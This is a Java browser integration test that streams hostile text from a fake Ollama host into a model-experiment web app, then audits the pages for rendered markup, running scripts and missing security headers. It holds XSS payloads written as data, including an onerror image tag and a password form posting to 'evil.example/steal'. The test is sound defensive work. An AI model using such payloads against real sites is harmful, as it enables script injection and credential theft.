package org.jouleboard.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.jouleboard.Payloads;
import org.jouleboard.TestUsers;
import org.jouleboard.base.SafeMarkdown;
import org.jouleboard.experiment.ExperimentRequest;
import org.jouleboard.experiment.ExperimentService;
import org.jouleboard.experiment.PromptInput;
import org.jouleboard.experiment.run.RunView;
import org.jouleboard.host.HostDraft;
import org.jouleboard.host.HostDrafts;
import org.jouleboard.host.HostException;
import org.jouleboard.host.HostService;
import org.jouleboard.inference.Think;
import org.jouleboard.model.ModelCatalog;
import org.jouleboard.model.ModelInfo;
import org.jouleboard.simulator.internal.ChatScript;
import org.jouleboard.simulator.internal.FakeModel;
import org.jouleboard.simulator.internal.FakeOllama;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.logging.LogEntry;
import org.openqa.selenium.logging.LogType;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.core.authority.SimpleGrantedAuthority;
import org.springframework.security.core.context.SecurityContextHolder;

/**
 * Hostile text everywhere a model, a host or a user can put it (answer, thinking, prompt, title, model name,
 * display name, notes, a host's error), streamed into a real browser: nothing outside the allow-list appears
 * in the page (shadow roots included), no payload script runs, and the pages carry the security headers.
 */
class UntrustedTextIT extends BrowserTest {

    /** A model name a host can report: Ollama does not forbid markup in it. */
    private static final String MODEL = "<img src=x onerror=" + Payloads.PWNED + ">:1b";

    /**
     * Walks the whole page, shadow roots included, and names everything that should not be there: elements
     * that act (forms, frames, plugins), handlers, remote images, script links, unknown custom elements, a
     * login form outside the login page; inside rendered answers, anything beyond SafeMarkdown's allow-list;
     * inside plain-text panes (pre, errors), any element at all.
     */
    private static final String AUDIT = """
            const [elements, attributes] = [new Set(arguments[0]), arguments[1]];
            const problems = [];
            const all = [];
            const collect = (root) => { for (const el of root.querySelectorAll('*')) {
                all.push(el); if (el.shadowRoot) collect(el.shadowRoot); } };
            collect(document);
            const describe = (el) => '<' + el.localName + ' ' + Array.from(el.attributes).map(a => a.name + '="' + a.value + '"').join(' ') + '>';
            for (const el of all) {
                const tag = el.localName;
                if (['form', 'iframe', 'frame', 'object', 'embed', 'math', 'template', 'noscript',
                        'vaadin-login-form', 'vaadin-login-overlay'].includes(tag)) problems.push('element ' + describe(el));
                if (tag.includes('-') && !/^(vaadin-|power-chart$|board-chart$|live-text$|flow-|copilot-)/.test(tag))
                    problems.push('custom element ' + describe(el));
                // Our streaming text pane: the text goes in as text nodes, never as elements.
                if (tag === 'live-text' && el.children.length > 0) problems.push('markup in live text: ' + describe(el));
                for (const a of el.attributes) {
                    if (a.name.startsWith('on')) problems.push('handler ' + describe(el));
                    if (/^\\s*(javascript|data|vbscript):/i.test(a.value) && ['href', 'src', 'action', 'formaction'].includes(a.name))
                        problems.push('script URL ' + describe(el));
                }
                if (tag === 'img' && !(el.src.startsWith(location.origin) || /^(data|blob):/.test(el.src)))
                    problems.push('remote image ' + describe(el));
                if (tag === 'script' && (el.textContent.includes('__pwned') || (el.src && !el.src.startsWith(location.origin))))
                    problems.push('script ' + describe(el));
                if (el.matches('.markdown-text *')) {
                    if (!elements.has(tag)) problems.push('in an answer: ' + describe(el));
                    for (const a of el.attributes)
                        if (!(attributes[tag] || []).includes(a.name)) problems.push('attribute in an answer: ' + describe(el));
                }
                if ((tag === 'pre' || el.matches('.run-error, .run-summary > div:not(.summary-line), p.provenance, .provenance span, .provenance-full')) && el.querySelector('*')
                        && !el.matches('.markdown-text pre'))
                    problems.push('markup in plain text: ' + describe(el));
            }
            return problems;
            """;

    @Autowired
    ExperimentService experiments;

    @Autowired
    ModelCatalog catalog;

    @Autowired
    HostService hosts;

    private final String host = "hostile-" + UUID.randomUUID().toString().substring(0, 6);
    private FakeOllama ollama;

    @BeforeEach
    void hostileHost() {
        ollama = FakeOllama.start().addModel(FakeModel.of(MODEL, "completion", "thinking"));
        ChatScript.Builder answer = ChatScript.builder().chunkInterval(Duration.ofMillis(25));
        for (String payload : Payloads.ALL) {
            // Each payload split in two chunks, in the thinking and in the answer.
            int half = payload.length() / 2;
            answer.thinking(payload.substring(0, half), payload.substring(half) + "\n");
        }
        answer.boundary("", "Answer:\n\n");
        for (String payload : Payloads.ALL) {
            int half = payload.length() / 2;
            answer.content(payload.substring(0, half), payload.substring(half) + "\n\n");
        }
        answer.content(Payloads.SPLIT_FORM.toArray(String[]::new));
        answer.content("\n\nSee [the docs](https://example.org/docs).");
        ollama.script(MODEL, answer.build());
        ollama.script(
                MODEL,
                ChatScript.builder()
                        .content("Partial <b>answer</b>")
                        .errorLine(
                                "model runner crashed: <form action=\"http://evil.example/steal\"><input name=password></form>"
                                        + "<img src=x onerror=\"" + Payloads.PWNED + "\">")
                        .build());

        TestUsers.asAdmin(() -> {
            // A host name cannot carry markup at all: it is refused before it is stored.
            HostDraft hostile = draft("<b>host</b>");
            assertThat(hostile.problems()).extracting(HostDraft.Problem::field).contains("name");
            try {
                hosts.add(hostile);
                throw new AssertionError("a host name with markup was accepted");
            } catch (HostException expected) {
                // refused, as it should be
            }
            hosts.add(draft(host));
            catalog.sync(host);
            ModelInfo model = catalog.find(host, MODEL).orElseThrow();
            catalog.setNotes(model.id(), Payloads.ALL.get(5) + " " + Payloads.ALL.get(7));
            return null;
        });
    }

    private HostDraft draft(String name) {
        return HostDrafts.unmeasured(name, ollama.baseUrl().toString())
                .sampleInterval(Duration.ofSeconds(1))
                .cooldown(Duration.ofSeconds(4))
                .notes("Notes: " + Payloads.ALL.get(1) + Payloads.ALL.get(6))
                .build();
    }

    @AfterEach
    void removeHost() {
        SecurityContextHolder.clearContext();
        TestUsers.asAdmin(() -> hosts.remove(host));
        ollama.close();
    }

    @Test
    void hostileTextStaysTextInEveryPage() {
        driver.get(url("/login"));
        logIn("admin", ADMIN_PASSWORD);
        wait.until(d -> Boolean.TRUE.equals(js("return !!document.querySelector('.live-host')")));

        SecurityContextHolder.getContext()
                .setAuthentication(UsernamePasswordAuthenticationToken.authenticated(
                        "admin", null, List.of(new SimpleGrantedAuthority("ROLE_USER"))));
        String title = Payloads.ALL.get(5) + Payloads.ALL.get(0);
        String prompt = String.join("\n", Payloads.ALL.subList(0, 12));
        long experimentId = submit(title, prompt);

        // While the first answer streams and once it is done: audit the page at every poll.
        List<String> problems = new ArrayList<>();
        int[] auditsWhileStreaming = {0};
        wait.until(d -> {
            problems.addAll(audit());
            boolean streaming = Boolean.TRUE.equals(js(inPanel("return !!row.querySelector('.markdown-text.streaming')"
                    + " && row.querySelector('.markdown-text').textContent.length > 0")));
            auditsWhileStreaming[0] += streaming ? 1 : 0;
            return !panelSummary().isEmpty();
        });
        Browser.screenshot(driver, "untrusted-live-first.png");
        assertThat(panelSummary())
                .as(
                        "runs %s",
                        experiments.runsOf(experimentId).stream()
                                .map(r -> r.id() + " " + r.status() + " " + r.errorMessage())
                                .toList())
                .startsWith("Run finished");
        problems.addAll(audit());
        assertThat(problems).as("Live page, streaming and finished").isEmpty();
        assertThat(auditsWhileStreaming[0])
                .as("audits while the answer streamed")
                .isPositive();
        String answerShown = (String) js(inPanel("return row.querySelector('.markdown-text').textContent"));
        assertThat(answerShown)
                .as("the markup is shown as text, not lost")
                .contains("<form action=")
                .contains("<vaadin-login-form")
                .contains("[image: tracker]")
                .contains("Here: <form action=");
        assertThat((String) js(inPanel("return row.querySelector('.thinking-text').textContent")))
                .contains("<script>" + Payloads.PWNED + "</script>");
        assertThat(js(inPanel("return row.querySelectorAll('.markdown-text a[href]').length")))
                .as("one safe link")
                .isEqualTo(1L);
        assertThat(js(inPanel(
                        "return Array.from(row.querySelector('.markdown-text a[href]').relList).sort().join(' ')")))
                .isEqualTo("nofollow noopener noreferrer");

        // The next run fails with a host error full of markup.
        long failingId = submit("error " + Payloads.ALL.get(2), Payloads.ALL.get(3));
        wait.until(d -> {
            problems.addAll(audit());
            return panelSummary().startsWith("Run failed");
        });
        Browser.screenshot(driver, "untrusted-live.png");
        assertThat(panelSummary()).contains("model runner crashed: <form action=");
        assertThat(problems).as("Live page with a host's error").isEmpty();
        assertNothingRan();
        assertSecurityHeaders();

        List<RunView> runs = List.of(
                experiments.runsOf(experimentId).getFirst(),
                experiments.runsOf(failingId).getFirst());
        for (RunView run : runs) {
            driver.get(url("/runs/" + run.id()));
            wait.until(d -> d.findElement(org.openqa.selenium.By.tagName("body"))
                    .getText()
                    .contains("Prompt"));
            assertThat(audit()).as("run page %d", run.id()).isEmpty();
        }
        assertThat((String) js("return document.querySelector('.run-error').textContent"))
                .contains("<img src=x onerror=");
        driver.get(url("/runs/" + runs.getFirst().id()));
        wait.until(d -> Boolean.TRUE.equals(js("return !!document.querySelector('.run-answer')")));
        assertThat((String) js("return document.querySelector('.run-answer').textContent"))
                .contains("<vaadin-login-form")
                .contains("[image: tracker]");
        Browser.screenshot(driver, "untrusted-run.png");

        for (String page : List.of(
                "/experiments/view/" + experimentId, "/admin/models", "/admin/hosts", "/admin/queue", "/experiments")) {
            driver.get(url(page));
            wait.until(d -> Boolean.TRUE.equals(js("return !!document.querySelector('vaadin-app-layout')"
                    + " && document.body.innerText.length > 50")));
            assertThat(audit()).as(page).isEmpty();
        }
        assertNothingRan();
        assertThat(cspViolations()).isEmpty();
    }

    private long submit(String title, String prompt) {
        return experiments
                .submit(new ExperimentRequest(
                        title,
                        host,
                        List.of(new PromptInput(prompt, null)),
                        List.of(MODEL),
                        1,
                        Think.ON,
                        null,
                        null,
                        3,
                        null))
                .id();
    }

    @SuppressWarnings("unchecked")
    private List<String> audit() {
        return (List<String>) js(
                AUDIT,
                List.copyOf(SafeMarkdown.ELEMENTS),
                Map.copyOf(SafeMarkdown.ATTRIBUTES.entrySet().stream()
                        .collect(
                                java.util.stream.Collectors.toMap(Map.Entry::getKey, e -> List.copyOf(e.getValue())))));
    }

    private String inPanel(String body) {
        return "const row = Array.from(document.querySelectorAll('.live-host'))" + ".find(r => r.textContent.includes('"
                + host + "')); if (!row) return null; " + body;
    }

    private String panelSummary() {
        Object text = js(inPanel("const s = row.querySelector('.run-summary');"
                + " return s && !s.hasAttribute('hidden') ? s.textContent : ''"));
        return text == null ? "" : text.toString();
    }

    private void assertNothingRan() {
        assertThat(js("return typeof window.__pwned"))
                .as("a payload's script ran")
                .isEqualTo("undefined");
    }

    @SuppressWarnings("unchecked")
    private void assertSecurityHeaders() {
        List<String> headers = (List<String>) ((JavascriptExecutor) driver)
                .executeAsyncScript("const done = arguments[arguments.length - 1]; fetch(location.href).then(r => done("
                        + "['content-security-policy', 'x-content-type-options', 'referrer-policy']"
                        + ".map(h => r.headers.get(h))))");
        assertThat(headers.get(0))
                .contains("default-src 'self'")
                .contains("img-src 'self' data: blob:")
                .contains("form-action 'self'")
                .contains("frame-ancestors 'none'")
                .contains("object-src 'none'");
        assertThat(headers.get(1)).isEqualTo("nosniff");
        assertThat(headers.get(2)).isEqualTo("strict-origin-when-cross-origin");
    }

    private List<String> cspViolations() {
        return driver.manage().logs().get(LogType.BROWSER).getAll().stream()
                .map(LogEntry::getMessage)
                .filter(m -> m.contains("Content Security Policy"))
                .toList();
    }
}
